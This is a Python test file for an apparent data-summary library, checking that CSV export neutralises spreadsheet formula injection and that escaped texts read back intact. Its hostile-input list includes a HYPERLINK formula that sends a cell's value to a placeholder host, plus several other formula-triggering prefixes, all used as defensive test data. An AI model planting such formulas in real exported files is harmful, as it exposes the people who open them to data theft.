"""Texts that a spreadsheet would run as formulas: written with a quote, read back as they were."""

import csv
import warnings

import numpy as np
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import dpsumm
from dpsumm import Column, Schema
from dpsumm.basics.names import from_cell, to_cell
from dpsumm.data.inputs import read_table
from dpsumm.data.written import write_rows

WIDE = "\uff1d\uff0b\uff0d\uff20"
RUN = tuple("=+-@\t\r\n" + WIDE)
LINK = '=HYPERLINK("http://example.invalid/?"&A1)'
HOSTILE = [LINK, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''=1", "'", "'s-Gravenhage"]
HOSTILE += [f"{sign}1" for sign in WIDE]


def runs(cell):
    """Whether a spreadsheet would run a cell of a CSV file, if it is no number."""
    try:
        float(cell)
    except ValueError:
        return cell[:1] in RUN
    return False


def carried(table):
    return [str(text) for text in table.carried[0]]


@given(st.text(alphabet="'=+-@\t\r\na1 " + WIDE, max_size=6))
def test_every_text_comes_back_and_none_is_run(text):
    assert from_cell(to_cell(text)) == text
    assert not to_cell(text).startswith(RUN)
    # A text that needs no quote has none.
    assert to_cell(text) == text or text.lstrip("'").startswith(RUN)


def test_a_saved_file_is_read_back_and_runs_nothing(tmp_path):
    known = tuple(HOSTILE[:4])
    schema = Schema(
        [Column("=c", categories=known), Column("v", bounds=(-5, 5)), Column("n", "ignore")]
    )
    texts = [text for text in HOSTILE if "\r" not in text]
    n = len(texts)
    frame = pl.DataFrame(
        {"=c": [known[i % 4] for i in range(n)], "v": np.linspace(-1.5, 2, n), "n": texts}
    )
    for suffix in (".csv", ".parquet"):
        path = tmp_path / f"rows{suffix}"
        write_rows(path, frame, {})
        table = read_table(path, name="north", schema=schema)
        np.testing.assert_array_equal(
            table.values, read_table(frame, name="north", schema=schema).values
        )
        # Readers strip the blanks around a text, whatever the file.
        assert [text.strip() for text in carried(table)] == [text.strip() for text in texts]
    with open(tmp_path / "rows.csv", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not any(map(runs, cells))
    assert "-1.5" in cells  # a number stays one


def test_a_summary_of_hostile_texts_runs_nothing(tmp_path, rng):
    def owner(n):
        return pl.DataFrame(
            {
                "v": rng.uniform(0, 1, n),
                "cat": rng.choice([LINK, "+1", "c"], n),
                "note": [LINK] * n,
                "y": rng.choice([LINK, "@b"], n),
            }
        )

    schema = Schema(
        [
            Column("v", bounds=(0, 1)),
            Column("cat", categories=(LINK, "+1", "c")),
            Column("note", "ignore"),
            Column("y", "label"),
        ]
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        summary = dpsumm.summarize(
            {"a": owner(200), "b": owner(200)}, owner(100).drop("y", "note"), size=20, schema=schema
        )
    summary.save(tmp_path / "s.csv")
    with open(tmp_path / "s.csv", newline="") as file:
        assert not any(runs(cell) for row in csv.reader(file) for cell in row)


@pytest.mark.parametrize("text", ["'quoted'", "o'neil", "'tis"])
def test_a_quote_that_hides_no_formula_stays(text, tmp_path):
    path = tmp_path / "t.csv"
    path.write_text(f"v,n\n1,{text}\n2,'=1\n")
    schema = Schema([Column("v", bounds=(0, 5)), Column("n", "ignore")])
    assert carried(read_table(path, name="north", schema=schema)) == [text, "=1"]
